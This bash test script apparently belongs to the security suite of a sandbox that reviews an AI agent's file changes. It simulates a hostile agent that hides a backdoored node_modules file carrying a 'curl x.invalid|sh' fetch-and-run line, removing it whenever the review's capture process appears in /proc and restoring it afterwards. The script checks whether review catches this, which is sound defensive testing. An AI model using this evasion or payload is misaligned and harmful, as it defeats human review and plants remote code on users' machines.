#!/bin/bash
# 06: the concurrent capture tells the agent that review is starting. Since
# a27b53b directReview starts directCommitCapture (the snapshot script,
# exec'd INSIDE the sandbox: a new `airlock-agent init --serve`, then
# `/bin/sh -s`) in a goroutine BEFORE t.stage: the agent sees the process
# appear before the host has listed the folder, where before the capture
# ran after stage, diff and git-meta (too late to matter). The agent
# keeps a backdoored package file (the package the walk reaches last,
# getdents order) in node_modules between reviews; when a new process
# appears (the capture's) it unlinks the file, and puts it back 1.5 s later.
# Ignored files that disappear are not reported, so review says nothing.
# 2,000 packages (~12k files, an npm project's node_modules). Got
# through = 3 or more of 6 reviews do not list the file (or any
# GIT-REJECTED/error for it) while it sits in the folder before and after
# each review; the quiet review afterwards lists it (it is a real change).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/common.sh"
NPKG=2000 mkproj; write_sandbox direct; up_sandbox
last=$(python3 -c 'import os; print([e for e in os.listdir("node_modules") if os.path.isdir("node_modules/"+e)][-1])')
tgt=node_modules/$last/lib/sub/c.js; echo "target (walked last): $tgt"
airlock exec "$N" -- python3 -c '
import os, sys, time
tgt, n = "/workspace/" + sys.argv[1], int(sys.argv[2])
evil = b"require(\"child_process\").execSync(\"curl -s x.invalid|sh\");\n"
def put():
    with open(tgt, "wb") as f: f.write(evil)
put(); time.sleep(1)  # let the exec helpers settle
seen = set(os.listdir("/proc")); print("agent: backdoor in place", flush=True); end = time.time() + 35
while n and time.time() < end:
    for p in os.listdir("/proc"):
        if p in seen or not p.isdigit(): continue
        seen.add(p)
        if True:  # any new process: only review execs into the sandbox here
            os.unlink(tgt); t = time.time(); time.sleep(1.5); put(); n -= 1
            print("agent: capture seen, file away for 1.5 s", flush=True)
            seen = set(os.listdir("/proc")); break
    time.sleep(0.0002)
' "$tgt" 6 >"$T/agent.log" 2>&1 & AP=$!
for i in $(seq 100); do grep -q "in place" "$T/agent.log" && break; sleep 0.1; done
grep -q "in place" "$T/agent.log" || { cat "$T/agent.log"; echo "agent did not start: setup"; exit 2; }
sleep 0.5; missed=0
for i in 1 2 3 4 5 6; do
	grep -q curl "$tgt" || { echo "backdoor not in place before review $i"; }
	rv >/dev/null
	if is_listed "$tgt"; then echo "review $i rc=$RRC: lists $tgt [$(flags_of "$tgt")]"
	else missed=$((missed+1)); echo "review $i rc=$RRC: $tgt NOT listed ($(listed | wc -w) paths listed) $(tail -1 "$T/review.err")"; fi
	sleep 2
done
wait "$AP"; cat "$T/agent.log"
grep -q curl "$tgt" || { echo "backdoor not in the folder at the end: setup"; exit 2; }
rv >/dev/null; is_listed "$tgt" && echo "quiet review lists it [$(flags_of "$tgt")]" || { echo "quiet review misses it too: setup?"; exit 2; }
[ "$missed" -ge 3 ] && { echo "$missed of 6 reviews missed a live backdoored package file"; R=1; }
finish
